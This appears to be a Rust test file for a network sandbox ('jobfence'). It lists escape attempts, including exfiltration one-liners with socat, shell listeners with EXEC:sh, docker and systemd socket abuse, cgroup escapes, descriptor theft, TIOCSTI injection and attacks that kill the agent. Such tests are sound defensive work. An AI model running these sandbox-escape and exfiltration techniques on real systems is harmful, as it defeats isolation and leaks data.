//! Around the fence: whatever sends for the job, takes it out of its cgroup or takes the fence
//! down.

use super::{Attack, Expect, How, Layer, MARK, Proof, Ready, attack, v4};
use crate::addresses::BLOCKED;

const NO_RULE: Expect = Expect::Violation("no-rule");
const SYSTEM_CALL: Expect = Expect::Nothing("the system call fails");

/// A service that runs what it is told, at the socket that `$0` names.
const SERVICE: &str = "
mount -t tmpfs none /run
mkdir -p /run/lock /run/user \"$(dirname \"$0\")\"
(setsid socat -t 10 UNIX-LISTEN:\"$0\",fork,mode=666 EXEC:sh >/dev/null 2>&1 &)
until [ -S \"$0\" ]; do sleep 0.01; done
export SERVICE=\"$0\"
exec \"$@\"
";

/// Has such a service send a packet.
const fn service(name: &'static str, through: &'static [&'static str]) -> Attack {
    let script = "
s = socket.socket(socket.AF_UNIX)
s.connect(os.environ['SERVICE'])
s.sendall(b'printf jobfence-secret | socat -u - UDP:198.51.100.20:5000\\n')
s.shutdown(socket.SHUT_WR)
s.recv(99)
";
    let why = Expect::Nothing("there is no such socket in the job");
    attack(name, Layer::Mounts, How::Python(script), MARK, why).through(through)
}

macro_rules! at {
    ($path:literal) => {
        &[
            "unshare",
            "--mount",
            "--propagation",
            "private",
            "sh",
            "-c",
            SERVICE,
            $path,
        ]
    };
}

/// Leaves the cgroup, or tries to, and sends a datagram.
const fn leaves(name: &'static str, script: &'static str) -> Attack {
    let proof = Proof::To(v4(BLOCKED), 5000);
    attack(name, Layer::Mounts, How::Python(script), proof, NO_RULE)
}

/// Sends a datagram in circumstances that are to take the fence down.
const fn withstands(name: &'static str, script: &'static str) -> Attack {
    let proof = Proof::To(v4(BLOCKED), 5000);
    attack(name, Layer::Connect, How::Python(script), proof, NO_RULE)
}

/// Something that the host's root may do, and says that it did.
const fn undoes(name: &'static str, layer: Layer, script: &'static str) -> Attack {
    attack(
        name,
        layer,
        How::Python(script),
        Proof::Prints("it worked"),
        SYSTEM_CALL,
    )
    .as_root()
}

/// What a process of the job's user outside can be made to do.
const fn neighbour(name: &'static str, layer: Layer, script: &'static str, proof: Proof) -> Attack {
    attack(name, layer, How::Python(script), proof, SYSTEM_CALL).outside(
        How::Python(
            "
s = udp()
s.connect((BLOCKED, 5000))
open('neighbour.new', 'w').write(f'{os.getpid()} {s.fileno()}')
os.rename('neighbour.new', 'neighbour')
time.sleep(60)
",
        ),
        Ready::File("neighbour"),
    )
}

pub(super) const ATTACKS: &[Attack] = &[
    service("the_service_manager", at!("/run/systemd/private")),
    service("docker", at!("/run/docker.sock")),
    service("podman", at!("/run/podman/podman.sock")),
    service("containerd", at!("/run/containerd/containerd.sock")),
    service("the_message_bus", at!("/run/dbus/system_bus_socket")),
    service("the_users_service_manager", at!("/run/user/65534/systemd/private")),
    service("the_resolver_of_systemd", at!("/run/systemd/resolve/io.systemd.Resolve")),
    service("the_name_cache", at!("/run/nscd/socket")),
    service("the_multicast_resolver", at!("/run/avahi-daemon/socket")),
    attack(
        "a_shell_on_the_loopback_interface",
        Layer::Connect,
        // As sshd is one, for whoever has a key.
        How::Shell("echo 'printf jobfence-secret | socat -u - UDP:198.51.100.20:5000' | socat -T2 - TCP:127.0.0.1:2222"),
        MARK,
        Expect::Violation("loopback"),
    )
    .outside(
        How::Words(&["socat", "TCP-LISTEN:2222,bind=127.0.0.1,fork", "EXEC:sh"]),
        Ready::Port(2222),
    ),
    leaves("a_write_to_every_cgroup", "
for line in open('/proc/self/mountinfo'):
    if ' - cgroup' in line:
        at = line.split()[4] + '/cgroup.procs'
        try_each(lambda: open(at, 'w').write(str(os.getpid())))
udp().sendto(MARK, (BLOCKED, 5000))
")
    .as_root(),
    leaves("a_cgroup_file_system_of_its_own", "
script = 'mount -t cgroup2 none /mnt && find /mnt -name cgroup.procs | while read -r f; do echo $$ > $f; done; exec \"$@\"'
words = ['python3', '-c', f'import socket; socket.socket(2, 2).sendto({MARK!r}, ({BLOCKED!r}, 5000))']
subprocess.run(['unshare', '-UrmC', 'sh', '-c', script, 'sh', *words])
"),
    leaves("a_child_made_in_another_cgroup", "
# clone3 with CLONE_INTO_CGROUP asks the file system, not the mount, whether it may be written.
for line in open('/proc/self/mountinfo'):
    if ' - cgroup2 ' in line:
        at = os.open(line.split()[4], os.O_RDONLY | os.O_DIRECTORY)
        arguments = ctypes.create_string_buffer(struct.pack('11Q', 1 << 33, 0, 0, 0, 17, 0, 0, 0, 0, 0, at))
        if libc.syscall(435, arguments, len(arguments) - 1) == 0:
            break
udp().sendto(MARK, (BLOCKED, 5000))
os.wait()
")
    .as_root(),
    withstands("an_orphan", "
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try_each(lambda: udp().sendto(MARK, (BLOCKED, 5000)))
        open('done', 'w')
    os._exit(0)
os.wait()
while not os.path.exists('done'): time.sleep(0.01)
os.remove('done')
"),
    attack(
        "a_program_with_roots_rights",
        Layer::Privileges,
        How::Words(&["./python", "-c", "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)
s.sendto(b'jobfence-secret', ('198.51.100.20', 0))
"]),
        MARK,
        SYSTEM_CALL,
    )
    .prepare("cp \"$(realpath \"$(command -v python3)\")\" python; chmod 4755 python"),
    attack(
        "a_program_with_a_capability",
        Layer::Privileges,
        How::Words(&["./python", "-c", "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)
s.sendto(b'jobfence-secret', ('198.51.100.20', 0))
"]),
        MARK,
        SYSTEM_CALL,
    )
    .prepare("
cp \"$(realpath \"$(command -v python3)\")\" python
python3 -c \"
import os, struct
# CAP_NET_RAW, as setcap(8) writes it (linux/capability.h, VFS_CAP_REVISION_2).
os.setxattr('python', 'security.capability', struct.pack('<5I', 0x02000001, 1 << 13, 0, 0, 0))
\""),
    attack(
        "a_socket_from_before_the_fence",
        Layer::Descriptors,
        How::Python("socket.socket(fileno=7).sendto(MARK, (BLOCKED, 5000))"),
        MARK,
        Expect::Nothing("the descriptor is closed"),
    )
    .through(&["python3", "-c", "
import os, socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
os.dup2(s.fileno(), 7)
os.execvp(sys.argv[1], sys.argv[1:])
"]),
    attack(
        "a_socket_as_standard_input",
        Layer::Descriptors,
        How::Python("socket.socket(fileno=0).sendto(MARK, (BLOCKED, 5000))"),
        MARK,
        Expect::Exit(111),
    )
    .through(&["python3", "-c", "
import os, socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
os.dup2(s.fileno(), 0)
os.execvp(sys.argv[1], sys.argv[1:])
"]),
    neighbour("a_descriptor_of_a_process_outside", Layer::UserNamespace, "
pid, fd = map(int, open('neighbour').read().split())
pidfd = check(libc.syscall(434, pid, 0))
socket.socket(fileno=check(libc.syscall(438, pidfd, fd, 0))).send(MARK)
", MARK),
    neighbour("the_memory_of_a_process_outside", Layer::UserNamespace, "
pid, _ = map(int, open('neighbour').read().split())
os.close(os.open(f'/proc/{pid}/mem', os.O_RDWR))
print('it worked')
", Proof::Prints("it worked")),
    neighbour("tracing_a_process_outside", Layer::UserNamespace, "
pid, _ = map(int, open('neighbour').read().split())
check(libc.ptrace(16, pid, 0, 0))
print('it worked')
", Proof::Prints("it worked")),
    neighbour("the_file_systems_of_a_process_outside", Layer::UserNamespace, "
pid, _ = map(int, open('neighbour').read().split())
os.listdir(f'/proc/{pid}/root')
print('it worked')
", Proof::Prints("it worked")),
    undoes("the_links_of_the_fence", Layer::Mounts, "
if os.listdir('/sys/fs/bpf'): print('it worked')
")
    .prepare("
mountpoint -q /sys/fs/bpf || mount -t bpf none /sys/fs/bpf
mkdir -p /sys/fs/bpf/jobfence
"),
    undoes("a_bpf_program_of_its_own", Layer::Seccomp, "
# BPF_MAP_CREATE: an array.
attributes = ctypes.create_string_buffer(struct.pack('IIIII', 2, 4, 4, 1, 0), 128)
check(libc.syscall({'x86_64': 321, 'aarch64': 280}[os.uname().machine], 0, attributes, 128))
print('it worked')
"),
    undoes("writing_to_the_kernels_settings", Layer::Mounts, "
os.close(os.open('/proc/sys/kernel/core_pattern', os.O_WRONLY))
print('it worked')
"),
    undoes("the_host_name_of_the_host", Layer::Privileges, "
socket.sethostname(socket.gethostname())
print('it worked')
"),
    undoes("a_device_of_its_own", Layer::Privileges, "
os.mknod('tun', 0o20666, os.makedev(10, 200))
print('it worked')
"),
    undoes("another_route", Layer::Privileges, "
subprocess.run(['ip', 'route', 'add', '203.0.113.0/24', 'dev', 'lo'], check=True)
subprocess.run(['ip', 'route', 'del', '203.0.113.0/24', 'dev', 'lo'], check=True)
print('it worked')
"),
    undoes("uncovering_what_is_covered", Layer::Privileges, "
check(libc.mount(b'none', b'/mnt', b'tmpfs', 0, None))
libc.umount2(b'/mnt', 0)
print('it worked')
"),
    undoes("input_for_the_shell_after_the_job", Layer::Seccomp, "
import fcntl, pty
master, slave = pty.openpty()
if os.fork():
    os.wait()
    os._exit(0)
os.setsid()
fcntl.ioctl(slave, 0x540e, 0)  # TIOCSCTTY
fcntl.ioctl(slave, 0x5412, b'x')  # TIOCSTI
print('it worked')
"),
    // Without Landlock, a job that is root may send signals to root's processes.
    withstands(
        "killing_the_agent",
        "
agent = os.getppid()
def kill():
    if open(f'/proc/{agent}/comm').read().startswith('jobfence'): os.kill(agent, signal.SIGKILL)
if os.fork() == 0:
    os.setsid()
    end = time.monotonic() + 0.5
    while time.monotonic() < end: try_each(lambda: udp().sendto(MARK, (BLOCKED, 5000)))
    os._exit(0)
try_each(kill)
os.wait()
",
    )
    .as_root()
    .or_killed(),
    withstands(
        "stopping_the_agent",
        "
agent = os.getppid()
def send(number):
    if open(f'/proc/{agent}/comm').read().startswith('jobfence'): os.kill(agent, number)
try_each(lambda: send(signal.SIGSTOP), lambda: udp().sendto(MARK, (BLOCKED, 5000)),
         lambda: tcp(BLOCKED, 5000), lambda: send(signal.SIGCONT))
",
    )
    .as_root(),
    attack(
        "a_shell_at_an_abstract_socket",
        Layer::Landlock,
        How::Python("
s = socket.socket(socket.AF_UNIX)
s.connect('\\0jobfence-tests-' + os.getcwd())
s.sendall(b'printf jobfence-secret | socat -u - UDP:198.51.100.20:5000\\n')
s.shutdown(socket.SHUT_WR)
s.recv(99)
"),
        MARK,
        SYSTEM_CALL,
    )
    .outside(
        How::Python("
s = socket.socket(socket.AF_UNIX)
s.bind('\\0jobfence-tests-' + os.getcwd())
s.listen()
open('listening', 'w')
while True:
    c, _ = s.accept()
    subprocess.run(['sh'], stdin=c)
    c.close()
"),
        Ready::File("listening"),
    )
    .needs("
if libc.syscall(444, None, 0, 1) < 6: raise SystemExit('this kernel has no Landlock scopes (Linux 6.12)')
"),
    withstands("flooding_the_agent", "
import random
os.fork()
end = time.monotonic() + 0.3
while time.monotonic() < end:
    try: udp().sendto(b'x', (f'203.0.113.{random.randrange(256)}', random.randrange(1, 65536)))
    except OSError: pass
    try: udp().sendto(MARK, (BLOCKED, 5000))
    except OSError: pass
"),
    attack(
        "two_threads_on_one_socket",
        Layer::Packet,
        How::Words(&["./race"]),
        Proof::To(v4(BLOCKED), 9999),
        NO_RULE,
    )
    .prepare("cc -O2 -pthread -o race -xc - <<'END'
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <pthread.h>
#include <sched.h>
#include <stdlib.h>
// Both send on one socket, to a listener of the job and to where no rule leads: the verdict on
// one must never be taken for the other's.
static int s;
static struct sockaddr_in inside;
static void *mix(void *arg) {
    long cpu = (long)arg;
    unsigned r = cpu * 7919 + 1;
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET(cpu, &set);
    sched_setaffinity(0, sizeof set, &set);
    for (int i = 0; i < 200000; i++) {
        r = r * 1103515245 + 12345;
        if ((r >> 16) & 63) sendto(s, \"x\", 1, 0, (void *)&inside, sizeof inside);
        else send(s, \"secret\", 6, 0);
    }
    return 0;
}
int main(void) {
    int listener = socket(AF_INET, SOCK_DGRAM, 0);
    socklen_t length = sizeof inside;
    inside.sin_family = AF_INET;
    inside.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    bind(listener, (void *)&inside, sizeof inside);
    getsockname(listener, (void *)&inside, &length);
    struct sockaddr_in blocked = {.sin_family = AF_INET, .sin_port = htons(9999)};
    inet_pton(AF_INET, \"198.51.100.20\", &blocked.sin_addr);
    s = socket(AF_INET, SOCK_DGRAM, 0);
    connect(s, (void *)&blocked, sizeof blocked);
    pthread_t threads[2];
    for (long i = 0; i < 2; i++) pthread_create(&threads[i], 0, mix, (void *)i);
    for (int i = 0; i < 2; i++) pthread_join(threads[i], 0);
    return 0;
}
END
"),
    attack(
        "a_fence_of_its_own_inside",
        Layer::Privileges,
        How::Shell("
printf 'version: 1\\njobs: {default: {allow: [{cidr: 198.51.100.20/32, ports: [443]}]}}' > wide.yml
./jobfence run --policy wide.yml -- ncat -w 2 --send-only 198.51.100.20 443 </dev/null || true
"),
        Proof::To(v4(BLOCKED), 443),
        SYSTEM_CALL,
    )
    .as_root(),
];
